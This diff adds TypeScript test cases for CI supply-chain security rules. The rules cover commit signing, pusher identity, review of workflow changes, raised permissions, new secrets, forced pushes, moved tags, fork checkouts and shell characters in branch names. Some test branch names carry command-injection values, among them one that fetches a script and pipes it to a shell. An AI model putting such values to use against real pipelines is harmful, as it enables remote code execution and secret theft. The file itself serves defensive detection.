@@ -1,4 +1,614 @@
-import type { RuleCases } from './case.ts';
+import { baseRecord } from '../../../support/base-record.ts';
+import type { RuleCase, RuleCases } from './case.ts';
+
+const CHANGE = '/source/workflowChange';
+const FORK = '5'.repeat(40);
+const BOT = { login: 'release-train[bot]', id: '155500001', type: 'bot' } as const;
+const DEPENDABOT = { login: 'dependabot[bot]', id: '49699333', type: 'bot' } as const;
+
+type Facts = NonNullable<RuleCase['set']>;
+
+/** Nobody but its author saw the change. */
+const DIRECT: Facts = { '/source/pullRequests': [] };
+const NOT_PUSHED = ['/people/pusher', '/pipeline/before', '/source/created', '/source/forced'];
+
+/** The job deploys nowhere. */
+const NO_DEPLOYMENT = { pointer: '/pipeline/environment', reason: 'not-applicable', needed: 'an environment' } as const;
+const NO_CHANGE = { pointer: CHANGE, reason: 'not-applicable', needed: 'a file of another ref' } as const;
+
+function modified(more: Facts = {}): Facts {
+  return { [`${CHANGE}/status`]: 'modified', ...more };
+}
+
+function added(against: 'before' | 'default-branch' = 'before'): Facts {
+  return {
+    [CHANGE]: {
+      against,
+      commit: '12e56c791e297c2b698f922780e15def46556ed3',
+      file: '.github/workflows/shai-hulud.yml',
+      status: 'added',
+      permissionsRaised: ['contents: write'],
+      newSecrets: ['*'],
+      triggersAdded: ['push'],
+    },
+  };
+}
+
+/** Another branch than the default one. */
+function onBranch(name: string): Facts {
+  return {
+    '/pipeline/ref': `refs/heads/${name}`,
+    '/pipeline/refProtected': false,
+    '/protections/ref/ref': `refs/heads/${name}`,
+    '/protections/ref/forcePushes': true,
+    [`${CHANGE}/against`]: 'default-branch',
+  };
+}
+
+function onTag(name: string): Facts {
+  return { '/pipeline/ref': `refs/tags/${name}`, '/source/created': true };
+}
+
+function pullRequest(fromFork: boolean, more: Record<string, unknown> = {}): Facts {
+  const repository = fromFork ? 'mallory/payments' : 'octo-org/payments';
+  return {
+    '/pipeline/event': 'pull_request',
+    '/pipeline/ref': 'refs/pull/43/merge',
+    '/pipeline/pullRequest': {
+      number: '43',
+      headSha: FORK,
+      headRef: 'typo',
+      headRepository: repository,
+      fromFork,
+      baseRef: 'main',
+      ...more,
+    },
+    '/source/synthetic': true,
+    '/source/commit': FORK,
+    '/source/pullRequests': [
+      { number: '43', state: 'open', headSha: FORK, headRepository: repository, baseRef: 'main', reviews: [] },
+    ],
+    [`${CHANGE}/against`]: 'default-branch',
+  };
+}
+
+function target(more: Facts = {}): Facts {
+  return {
+    ...pullRequest(true),
+    '/pipeline/event': 'pull_request_target',
+    '/pipeline/ref': 'refs/heads/main',
+    '/source/synthetic': false,
+    '/source/commit': 'da8cba03f38586d3548db460a298bc0a4f5a3200',
+    '/source/workspace': { commit: FORK, isSource: false },
+    ...more,
+  };
+}
+
+function workflowRun(fromFork: boolean, headBranch: string): Facts {
+  return {
+    '/pipeline/event': 'workflow_run',
+    '/pipeline/workflowRun': { id: '1', event: 'pull_request', headSha: FORK, headBranch, fromFork },
+    '/source/workspace': { commit: FORK, isSource: false },
+  };
+}
+
+function comment(association: string, onPullRequest = true): Facts {
+  return {
+    '/pipeline/event': 'issue_comment',
+    '/pipeline/comment': { id: '9', association, issue: '43', onPullRequest },
+    '/source/workspace': { commit: FORK, isSource: false },
+  };
+}
+
+const READ_ONLY: Facts = {
+  '/access/secrets': ['GITHUB_TOKEN'],
+  '/access/oidc': { available: false },
+  '/access/token/permissions': { contents: { declared: 'read', observed: 'read', source: 'worker-log' } },
+};
+
+const BY_QUEUE: Facts = {
+  '/pipeline/event': 'merge_group',
+  '/pipeline/ref': 'refs/heads/gh-readonly-queue/main/pr-43-12e56c791e297c2b698f922780e15def46556ed3',
+  '/pipeline/mergeGroup': { headSha: 'da8cba03f38586d3548db460a298bc0a4f5a3200', baseRef: 'refs/heads/main' },
+  [`${CHANGE}/against`]: 'default-branch',
+  ...DIRECT,
+};
+
+const WEB_FLOW: Facts = {
+  '/source/verification/signedByForge': true,
+  '/people/committer': { account: { login: 'web-flow', id: '19864447', type: 'user' } },
+};
+
+function author(login: string, id: string): Facts {
+  const identity = { account: { login, id, type: 'user' } };
+  return {
+    '/people/author': identity,
+    '/people/committer': identity,
+    '/source/verification': { verified: false, reason: 'unsigned' },
+  };
+}
+
+/** A run of the same workflow the week before. */
+function earlier(ref: string, sha: string) {
+  return baseRecord({
+    set: {
+      '/recordId': 'e'.repeat(64),
+      '/pipeline/runId': '17800000000',
+      '/pipeline/ref': ref,
+      '/pipeline/sha': sha,
+      '/observedAt': { start: '2026-11-11T10:05:12.000Z', end: '2026-11-11T10:09:41.000Z' },
+    },
+  });
+}
+
+/** Changed workflow files that give no cause for concern, whatever they gain. */
+function harmlessChanges(gain: Facts): RuleCase[] {
+  return [
+    { name: 'the file is as it was' },
+    { name: 'a reviewed pull request brought the change', set: modified(gain) },
+    {
+      name: 'a schedule runs the default branch’s own file',
+      set: { '/pipeline/event': 'schedule', '/gaps': [NO_CHANGE] },
+      remove: [CHANGE, ...NOT_PUSHED],
+    },
+    { name: 'a fork’s pull request changes it', set: { ...pullRequest(true), ...modified(gain) }, remove: NOT_PUSHED },
+    { name: 'the merge queue tries it', set: { ...BY_QUEUE, ...modified(gain) }, remove: NOT_PUSHED },
+    { name: 'a branch is pushed for the first time', set: { ...onBranch('hotfix'), '/source/created': true } },
+    { name: 'a release’s tag is pushed', set: onTag('v1.4.0') },
+    {
+      name: 'Dependabot updates an action',
+      set: { ...pullRequest(false), ...modified(), ...READ_ONLY, '/people/initiator': DEPENDABOT },
+      remove: NOT_PUSHED,
+    },
+  ];
+}
+
+function unseenChanges(gain: Facts): RuleCase[] {
+  return [
+    { name: 'the file before was not seen', remove: [CHANGE], says: /workflowChange/ },
+    { name: 'the pull requests were not seen', set: modified(gain), remove: ['/source/pullRequests'] },
+    {
+      name: 'the merge queue’s branch needs no review that was seen',
+      set: { ...BY_QUEUE, ...modified(gain) },
+      remove: [...NOT_PUSHED, '/protections/ref'],
+    },
+    {
+      name: 'whether a reviewer belongs to the repository was not seen',
+      set: modified(gain),
+      remove: ['/source/pullRequests/0/reviews/0/association', '/source/pullRequests/0/reviewDecision'],
+    },
+  ];
+}
+
+const RAISED = { [`${CHANGE}/permissionsRaised`]: ['contents: write'] };
+const SECRETS = { [`${CHANGE}/newSecrets`]: ['NPM_TOKEN'] };
 
 /** Cases of the group’s rules by the rules’ ids. */
-export const sourceCases: Readonly<Record<string, RuleCases>> = {};
+export const sourceCases: Readonly<Record<string, RuleCases>> = {
+  'commit-is-verified': {
+    pass: [
+      { name: 'its author signed it' },
+      { name: 'GitHub signed the merge', set: WEB_FLOW },
+      { name: 'Dependabot’s commit was signed by GitHub', set: { ...WEB_FLOW, '/people/initiator': DEPENDABOT } },
+    ],
+    fail: [
+      { name: 'it bears no signature', set: { '/source/verification': { verified: false, reason: 'unsigned' } } },
+      {
+        name: 'the key is nobody’s',
+        set: { '/source/verification': { verified: false, reason: 'unknown_key' } },
+        says: /unknown_key/,
+      },
+    ],
+    unknown: [{ name: 'the commit was not seen', remove: ['/source/verification'], says: /verification/ }],
+  },
+  'author-is-pusher': {
+    pass: [
+      { name: 'its author pushed it' },
+      {
+        name: 'GitHub made the merge of another’s pull request',
+        set: { ...WEB_FLOW, '/people/pusher': { login: 'bob', id: '1002', type: 'user' } },
+      },
+      {
+        name: 'a squash merge has the author of the pull request',
+        set: { ...WEB_FLOW, ...DIRECT, '/people/author': { account: { login: 'bob', id: '1002', type: 'user' } } },
+      },
+      {
+        name: 'the merge queue pushed it',
+        set: { '/people/pusher': { login: 'github-merge-queue[bot]', id: '118344674', type: 'bot' } },
+      },
+      {
+        name: 'a bot pushed its own commit, which only its address tells',
+        set: {
+          ...DIRECT,
+          '/people/pusher': BOT,
+          '/people/author': { email: '155500001+release-train[bot]@users.noreply.github.com' },
+          '/people/committer': { email: 'ci@example.com' },
+        },
+      },
+      {
+        name: 'somebody committed a colleague’s patch',
+        set: { ...DIRECT, '/people/author': { account: { login: 'bob', id: '1002', type: 'user' } } },
+      },
+      {
+        name: 'the pusher signed it',
+        set: { ...DIRECT, ...author('bob', '1002'), '/source/verification': baseRecord().source.verification },
+      },
+      {
+        name: 'a branch is made of the default branch’s head',
+        set: {
+          ...author('bob', '1002'),
+          ...DIRECT,
+          ...onBranch('release'),
+          [`${CHANGE}/commit`]: 'da8cba03f38586d3548db460a298bc0a4f5a3200',
+        },
+      },
+      { name: 'a tag names another’s commit', set: { ...author('bob', '1002'), ...DIRECT, ...onTag('v1.4.0') } },
+      { name: 'a schedule started the job', set: { '/pipeline/event': 'schedule' }, remove: NOT_PUSHED },
+    ],
+    fail: [
+      {
+        name: 'a push brings a commit in the name of somebody else',
+        set: { ...author('bob', '1002'), ...DIRECT },
+        says: /bob .*alice/,
+      },
+      {
+        name: 'a bot pushes in the name of a person',
+        set: { ...author('bob', '1002'), ...DIRECT, '/people/pusher': BOT },
+      },
+    ],
+    unknown: [
+      {
+        name: 'the author’s address belongs to no account',
+        set: { ...author('bob', '1002'), ...DIRECT, '/people/author': { email: 'x@example.com' } },
+      },
+      {
+        name: 'the pusher’s id was not told',
+        set: author('bob', '1002'),
+        remove: ['/people/pusher/id', '/source/pullRequests'],
+      },
+      {
+        name: 'the pull requests were not seen',
+        set: author('bob', '1002'),
+        remove: ['/source/pullRequests'],
+        says: /pullRequests/,
+      },
+      {
+        name: 'the push made the branch',
+        set: { ...author('bob', '1002'), ...DIRECT, ...onBranch('topic'), '/source/created': true },
+        says: /made the branch/,
+      },
+    ],
+  },
+  'change-came-by-pull-request': {
+    pass: [
+      { name: 'the pull request was merged' },
+      { name: 'GitHub squashed it', set: WEB_FLOW },
+      { name: 'the merge queue tries it', set: BY_QUEUE, remove: NOT_PUSHED },
+      { name: 'a pull request is checked', set: pullRequest(false), remove: NOT_PUSHED },
+      { name: 'another branch is pushed', set: { ...onBranch('feature/x'), ...DIRECT } },
+      { name: 'the push made the default branch', set: { ...DIRECT, '/source/created': true } },
+      {
+        name: 'the pusher is one who may',
+        set: { ...DIRECT, '/people/pusher': BOT },
+        params: { allow: ['release-train[bot]'] },
+      },
+      {
+        name: 'a schedule deploys nothing',
+        set: { ...DIRECT, '/pipeline/event': 'schedule', '/gaps': [NO_DEPLOYMENT] },
+        remove: ['/pipeline/environment', ...NOT_PUSHED],
+      },
+      {
+        name: 'a tag is pushed that deploys nothing',
+        set: { ...DIRECT, ...onTag('v1.4.0'), '/gaps': [NO_DEPLOYMENT] },
+        remove: ['/pipeline/environment'],
+      },
+      { name: 'a tag of a merged commit deploys', set: onTag('v1.4.0') },
+    ],
+    fail: [
+      { name: 'somebody pushed to the default branch', set: DIRECT, says: /without a merged pull request; alice/ },
+      {
+        name: 'the pull request was merged into another branch',
+        set: { '/source/pullRequests/0/baseRef': 'develop' },
+      },
+      {
+        name: 'the policy names the branch',
+        set: { ...onBranch('release/1.x'), ...DIRECT },
+        params: { branches: ['main', 'release/*'] },
+      },
+      {
+        name: 'a dispatch deploys what was pushed',
+        set: { ...DIRECT, '/pipeline/event': 'workflow_dispatch' },
+        remove: NOT_PUSHED,
+      },
+    ],
+    unknown: [
+      { name: 'the pull requests were not seen', remove: ['/source/pullRequests'] },
+      { name: 'the default branch was not seen', set: DIRECT, remove: ['/pipeline/defaultBranch'] },
+      {
+        name: 'a schedule may deploy',
+        set: { '/pipeline/event': 'schedule', '/gaps': [{ ...NO_DEPLOYMENT, reason: 'not-found' }] },
+        remove: ['/pipeline/environment', ...NOT_PUSHED],
+      },
+      {
+        name: 'the pusher may be one who may',
+        set: DIRECT,
+        remove: ['/people/pusher/id'],
+        params: { allow: ['1001'] },
+      },
+    ],
+  },
+  'workflow-change-is-reviewed': {
+    pass: [
+      ...harmlessChanges({}),
+      {
+        name: 'a branch changes it for a job without rights',
+        set: { ...onBranch('ci'), ...modified(), ...DIRECT, ...READ_ONLY },
+      },
+    ],
+    fail: [
+      { name: 'a new workflow is pushed to the default branch', set: { ...added(), ...DIRECT }, says: /is new/ },
+      {
+        name: 'a new workflow is pushed on a branch of its own',
+        set: { ...onBranch('shai-hulud'), ...added('default-branch'), ...DIRECT, '/source/created': true },
+        says: /secrets and an identity token/,
+      },
+      {
+        name: 'a commit changes nothing else',
+        set: { ...modified(SECRETS), ...DIRECT, '/source/changedFiles': 1 },
+        says: /no other file/,
+      },
+      {
+        name: 'it is swapped for one that is dispatched',
+        set: modified({ ...DIRECT, ...author('bob', '1002'), [`${CHANGE}/triggersAdded`]: ['workflow_dispatch'] }),
+        says: /workflow_dispatch/,
+      },
+      {
+        name: 'only its author and a bot approved the pull request',
+        set: modified({
+          '/source/pullRequests/0/reviews/0/reviewer': DEPENDABOT,
+          '/source/pullRequests/0/author': { login: 'alice', id: '1001', type: 'user' },
+        }),
+      },
+      {
+        name: 'a pull request of the repository runs it before any review',
+        set: { ...pullRequest(false), ...modified() },
+        remove: NOT_PUSHED,
+      },
+    ],
+    unknown: [
+      ...unseenChanges({}),
+      {
+        name: 'a branch changes it and the job’s rights were not seen',
+        set: { ...onBranch('ci'), ...modified(), ...DIRECT, ...READ_ONLY, '/access/token': {} },
+      },
+    ],
+  },
+  'permissions-were-not-raised': {
+    pass: [
+      ...harmlessChanges(RAISED),
+      {
+        name: 'a right to read is added',
+        set: modified({ ...DIRECT, [`${CHANGE}/permissionsRaised`]: ['packages: read'] }),
+      },
+    ],
+    fail: [
+      { name: 'a push raises them', set: modified({ ...RAISED, ...DIRECT }), says: /contents: write/ },
+      {
+        name: 'a pull request of the repository raises its own job’s',
+        set: { ...pullRequest(false), ...modified(RAISED) },
+        remove: NOT_PUSHED,
+      },
+      {
+        name: 'a new workflow asks for all',
+        set: modified({ ...DIRECT, [`${CHANGE}/permissionsRaised`]: ['write-all'] }),
+      },
+    ],
+    unknown: [
+      ...unseenChanges(RAISED),
+      {
+        name: 'a side leaves them to the repository',
+        set: modified(DIRECT),
+        remove: [`${CHANGE}/permissionsRaised`],
+        says: /permissionsRaised/,
+      },
+    ],
+  },
+  'new-secrets-are-reviewed': {
+    pass: [
+      ...harmlessChanges(SECRETS),
+      {
+        name: 'it names the job’s own token',
+        set: modified({ ...DIRECT, [`${CHANGE}/newSecrets`]: ['GITHUB_TOKEN'] }),
+      },
+      {
+        name: 'Dependabot runs it, who gets none of them',
+        set: { ...pullRequest(false), ...modified(SECRETS), '/people/initiator': DEPENDABOT },
+        remove: NOT_PUSHED,
+      },
+    ],
+    fail: [
+      { name: 'a push names another one', set: modified({ ...SECRETS, ...DIRECT }), says: /NPM_TOKEN/ },
+      { name: 'a new workflow takes all', set: { ...added(), ...DIRECT }, says: /all secrets/ },
+      {
+        name: 'a pull request of the repository takes one before any review',
+        set: { ...pullRequest(false), ...modified(SECRETS) },
+        remove: NOT_PUSHED,
+      },
+    ],
+    unknown: [
+      ...unseenChanges(SECRETS),
+      { name: 'a side can’t be read', set: modified(DIRECT), remove: [`${CHANGE}/newSecrets`] },
+    ],
+  },
+  'push-was-not-forced': {
+    pass: [
+      { name: 'the push added to the branch' },
+      { name: 'somebody rebases a branch', set: { ...onBranch('feature/x'), '/source/forced': true } },
+      { name: 'a schedule started the job', set: { '/pipeline/event': 'schedule' }, remove: NOT_PUSHED },
+      { name: 'a tag was forced', set: { ...onTag('v1'), '/source/forced': true } },
+      {
+        name: 'the policy names other branches',
+        set: { '/source/forced': true, '/protections/ref/forcePushes': true },
+        params: { branches: ['release/**'] },
+      },
+    ],
+    fail: [
+      { name: 'the default branch is rewritten', set: { '/source/forced': true }, says: /by alice.*forbid/ },
+      {
+        name: 'the branch’s rules forbid it and somebody passed them by',
+        set: { ...onBranch('stable'), '/source/forced': true, '/protections/ref/forcePushes': false },
+      },
+      {
+        name: 'the policy names the branch',
+        set: { ...onBranch('release/2/x'), '/source/forced': true },
+        params: { branches: ['release/**'] },
+      },
+    ],
+    unknown: [
+      { name: 'the event could not be read', remove: ['/source/forced'] },
+      {
+        name: 'neither the default branch nor its rules were seen',
+        set: { '/source/forced': true },
+        remove: ['/pipeline/defaultBranch', '/protections/ref'],
+      },
+    ],
+  },
+  'tag-did-not-move': {
+    pass: [
+      { name: 'no tag is involved' },
+      { name: 'a release’s tag is new', set: onTag('v1.4.0'), remove: ['/pipeline/before'] },
+      {
+        name: 'a release was published from a tag',
+        set: { '/pipeline/ref': 'refs/tags/v1.4.0', '/pipeline/event': 'release' },
+        remove: NOT_PUSHED,
+      },
+      { name: 'the newest major version is moved on', set: { ...onTag('v1'), '/source/created': false } },
+      {
+        name: 'the policy says that the tag moves',
+        set: { ...onTag('stable-eu'), '/source/created': false },
+        params: { moving: ['stable-*'] },
+      },
+      {
+        name: 'earlier runs had other tags, or the same commit',
+        set: onTag('v1.4.0'),
+        remove: ['/pipeline/before'],
+        history: [
+          earlier('refs/tags/v1.3.0', 'f'.repeat(40)),
+          earlier('refs/tags/v1.4.0', 'da8cba03f38586d3548db460a298bc0a4f5a3200'),
+        ],
+      },
+    ],
+    fail: [
+      { name: 'a push moves it', set: { ...onTag('v1.4.0'), '/source/created': false }, says: /12e56c791e29/ },
+      {
+        name: 'a push forces it',
+        set: { ...onTag('v1.4.0'), '/source/created': false, '/source/forced': true },
+        remove: ['/pipeline/before'],
+      },
+      { name: 'the policy lets only others move', set: onTag('v1'), params: { moving: ['latest'] } },
+      {
+        name: 'it was deleted and made again elsewhere',
+        set: onTag('v1.4.0'),
+        remove: ['/pipeline/before'],
+        history: [earlier('refs/tags/v1.4.0', 'f'.repeat(40))],
+        says: /ffffffffffff in an earlier run/,
+      },
+    ],
+    unknown: [
+      { name: 'the ref was not told', remove: ['/pipeline/ref'] },
+      {
+        name: 'the event could not be read',
+        set: { '/pipeline/ref': 'refs/tags/v1.4.0' },
+        remove: ['/source/created', '/pipeline/before'],
+      },
+    ],
+  },
+  'names-hold-no-shell': {
+    pass: [
+      { name: 'the event brings no name of an outsider’s' },
+      ...['feature/x', 'dependabot/npm_and_yarn/@types/node-1.2', 'user@x', 'fix-#12', 'größe~1', 'a+b=c,d%e!'].map(
+        (headRef) => ({ name: `a fork’s branch is called ${headRef}`, set: pullRequest(true, { headRef }) }),
+      ),
+      { name: 'a colleague puts a scope into brackets', set: pullRequest(false, { headRef: 'fix(api)/x' }) },
+      { name: 'a run of the repository triggered it', set: workflowRun(false, 'fix(api)') },
+      { name: 'a tag holds them, which no outsider can make', set: onTag('v1(beta)') },
+    ],
+    fail: [
+      ...[
+        `$(curl\${IFS}x.sh|sh)`,
+        '`id`',
+        'a;b',
+        'a|b',
+        'a&b',
+        'a>b',
+        'a<b',
+        '{a,b}',
+        'a"b',
+        "a'b",
+        'a\\b',
+        'a b',
+        'a\nb',
+        'a\u007fb',
+      ].map((headRef) => ({
+        name: `a fork’s branch is called ${JSON.stringify(headRef)}`,
+        set: { ...pullRequest(true, { headRef }), '/pipeline/event': 'pull_request_target' },
+      })),
+      { name: 'a fork’s run triggered it', set: workflowRun(true, 'x$(id)'), says: /triggering run’s branch/ },
+    ],
+    unknown: [
+      { name: 'the name was not told', set: pullRequest(true, { headRef: undefined }) },
+      {
+        name: 'whose branch it is was not told',
+        set: pullRequest(true, { headRef: 'a;b', fromFork: undefined }),
+      },
+      { name: 'the event could not be read', set: { '/pipeline/event': 'workflow_run' } },
+    ],
+  },
+  'fork-code-stays-out': {
+    pass: [
+      { name: 'a push started the job' },
+      {
+        name: 'a fork’s own pull request is tried',
+        set: { ...pullRequest(true), '/source/workspace': { commit: FORK, isSource: false } },
+      },
+      {
+        name: 'the repository’s own code is checked out',
+        set: target({ '/source/workspace': { commit: 'da8cba03f38586d3548db460a298bc0a4f5a3200', isSource: true } }),
+      },
+      { name: 'the job has nothing to take', set: target(READ_ONLY) },
+      { name: 'the pull request is the repository’s own', set: target({ '/pipeline/pullRequest/fromFork': false }) },
+      { name: 'the triggering run was the repository’s own', set: workflowRun(false, 'main') },
+      { name: 'the comment is at an issue', set: comment('NONE', false) },
+    ],
+    fail: [
+      { name: 'a fork’s head is checked out', set: target(), says: /pull request’s code/ },
+      {
+        name: 'the merge of a fork’s pull request is checked out',
+        set: target({ '/source/workspace': { commit: '6'.repeat(40), isSource: false } }),
+      },
+      {
+        name: 'the code of a fork’s run is checked out',
+        set: workflowRun(true, 'typo'),
+        says: /triggering run’s code/,
+      },
+      { name: 'a stranger’s comment has a pull request checked out', set: comment('NONE') },
+    ],
+    unknown: [
+      { name: 'nothing was seen in the workspace', set: target({ '/source/workspace': undefined }) },
+      {
+        name: 'the job has only begun',
+        set: target({ '/phase': 'start', '/source/workspace': { commit: '7'.repeat(40), isSource: true } }),
+      },
+      {
+        name: 'the job committed on a branch',
+        set: target({ '/source/workspace': { commit: '6'.repeat(40), ref: 'refs/heads/docs', isSource: false } }),
+      },
+      { name: 'a member had the pull request checked out', set: comment('MEMBER') },
+      { name: 'whose pull request it is was not told', set: target({ '/pipeline/pullRequest/fromFork': undefined }) },
+      {
+        name: 'the token’s rights were not seen',
+        set: target({ ...READ_ONLY, '/access/token': {} }),
+      },
+    ],
+  },
+};
